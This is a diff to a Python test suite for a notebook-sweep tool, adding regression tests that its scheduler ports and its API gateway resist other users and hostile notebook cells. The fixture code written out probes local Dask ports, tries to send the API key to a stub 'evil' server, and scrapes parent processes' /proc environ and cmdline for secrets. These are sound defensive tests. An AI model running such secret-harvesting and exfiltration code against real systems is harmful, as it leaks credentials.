@@ -2,6 +2,7 @@
 import io
 import json
 import os
+import shutil
 import signal
 import socket
 import subprocess
@@ -22,7 +23,7 @@ from factlib.runs.dask import arrive, job_script, local_workers, scheduler_worke
 from factlib.runs.grid import load_grid
 from factlib.runs.sweep import here, plan, run_sweep
 from factlib.runs.sweep_said import exit_code
-from sweeps import asking, grid, notebook, rows, statuses
+from sweeps import asking, grid, notebook, rows, statuses, sweep
 
 KEY = 'sk-the-real-key'
 
@@ -241,3 +242,79 @@ def test_copies_are_whole_when_they_are_there(tmp_path, monkeypatch):
     assert order == ['notebook.html', 'notebook.ipynb']*2 + ['cells.csv', 'index.html']*2
     assert {p.name for p in (tmp_path/'elsewhere').iterdir()} == {'x=1', 'x=2', 'cells.csv', 'index.html'}
     with pytest.raises(BadInput, match='Nothing can be copied'): copying('out', 'nowhere://x')
+
+# Who isn't the user, and code in a cell that tries what it shouldn't
+
+NOBODY = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups']
+
+KNOCKING = '''
+import asyncio, sys, urllib.request
+from distributed.comm import connect
+from distributed.security import Security
+async def knock(port):
+    strange = Security.temporary().get_connection_args('client')
+    for way, more in (('tcp', {}), ('tls', strange)):
+        try: print('IN', way, port, await connect(f'{way}://127.0.0.1:{port}', timeout=2, **more))
+        except Exception as e: print('out', way, port, type(e).__name__)
+async def all(): await asyncio.gather(*[knock(port) for port in sys.argv[1:]])
+asyncio.run(all())
+for port in sys.argv[1:]:
+    for page in ('info/main/workers.html', 'json/counts.json', 'status'):
+        try: print('IN', page, port, urllib.request.urlopen(f'http://127.0.0.1:{port}/{page}', timeout=1).status)
+        except Exception as e: print('out', page, port, type(e).__name__)
+'''
+
+@pytest.mark.slow
+@pytest.mark.skipif(not sys.platform.startswith('linux'), reason='it looks for the ports in /proc')
+def test_nobody_else_reaches_scheduler_or_workers(tmp_path):
+    "Before, another account connected by TCP and ran code as the sweeping user. Each port that we or our workers listen at is tried."
+    import psutil
+    with local_workers(2)(2):
+        ours = [psutil.Process(), *psutil.Process().children(recursive=True)]
+        ports = {str(c.laddr.port) for p in ours for c in p.net_connections('tcp') if c.status == 'LISTEN'}
+        arguments = [arg for p in ours for arg in p.cmdline()]
+        as_nobody = NOBODY if os.geteuid() == 0 and shutil.which('setpriv') else []
+        (tmp_path/'home').mkdir(mode=0o777)
+        said = subprocess.run([*as_nobody, sys.executable, '-c', KNOCKING, *sorted(ports)], capture_output=True, text=True, cwd='/', env=os.environ | dict(HOME=str(tmp_path/'home')), timeout=120)
+    assert len(ports) >= 3 and said.stdout.count('out') == 5*len(ports) and 'IN' not in said.stdout, said.stdout + said.stderr
+    assert not any('PRIVATE KEY' in arg for arg in arguments)
+
+TRYING = """import asyncio, http.client, json, os, urllib.parse
+from pathlib import Path
+from factlib.llm.chat import Chat
+from factlib.llm.gateway import gated_url
+gate, token, found = os.environ['FACTLIB_GATE'], os.environ['OPENAI_API_KEY'], []
+def told(method, path, body=b'{}', token=token):
+    at = http.client.HTTPConnection(urllib.parse.urlsplit(gate).netloc, timeout=20)
+    at.request(method, path, body, {'Authorization': f'Bearer {token}'})
+    return at.getresponse().status
+def chat_at(url): return urllib.parse.urlsplit(gated_url(gate, url, 5)).path + '/chat/completions'
+elsewhere, ended = told('POST', chat_at(evil)), ''
+if name == 'b' and one_at_a_time: ended = told('GET', '/account', token=Path(notes, 'token-a').read_text())
+Path(notes, f'token-{name}').write_text(token)
+replaced = told('POST', '/answers', json.dumps(dict(rows=[], replace=True)).encode())
+places, process = [os.environ.copy()], os.getpid()
+while process not in (0, 1, upto): # this kernel and all that have started it
+    for file in ('environ', 'cmdline'):
+        try: places.append(Path(f'/proc/{process}/{file}').read_bytes())
+        except OSError: pass # sealed
+    process = int(Path(f'/proc/{process}/status').read_text().split('PPid:')[1].split()[0])
+reply = await Chat('m', base_url, mode='off')('a question')
+Path(notes, f'said-{name}.json').write_text(json.dumps(dict(elsewhere=elsewhere, ended=ended, replaced=replaced, reply=reply.text, seen=str(places))))"""
+
+@pytest.mark.slow
+@pytest.mark.parametrize('workers', [1, 2])
+def test_code_in_a_cell_that_tries(workers, tmp_path, monkeypatch):
+    "Before, a cell could have the key sent to any server, and find it in /proc of what had started it; a token opened the gateway to the sweep's end."
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.delenv('FACTLIB_CACHE', raising=False)
+    with StubServer(lambda request: 'Yes.', key=KEY) as server, StubServer(lambda request: 'Evil.') as evil:
+        parameters = f'base_url:str = {server.base_url!r}\nevil:str = {evil.base_url!r}\nname:str = "a"\nnotes:str = {str(tmp_path)!r}\nupto:int = {os.getpid()}\none_at_a_time:bool = {workers == 1}'
+        notebook(tmp_path/'trying.ipynb', parameters, TRYING)
+        grid(tmp_path, dict(experiment='trying.ipynb', grid=dict(name=['a', 'b'])))
+        ran = sweep('grid.yaml', '--out', 'out', '--workers', workers, cwd=tmp_path, OPENAI_API_KEY=KEY)
+    assert not evil.requests and ran[0] == 0, ran
+    told = {name: json.loads((tmp_path/f'said-{name}.json').read_text()) for name in 'ab'}
+    assert all((t['elsewhere'], t['replaced'], t['reply']) == (403, 404, 'Yes.') for t in told.values()) # 404: where the disk is shared, there is no such door
+    assert KEY not in str(told) and (workers > 1 or told['b']['ended'] == 401)
+    for file in tmp_path.rglob('*'): assert not file.is_file() or KEY.encode() not in file.read_bytes(), file
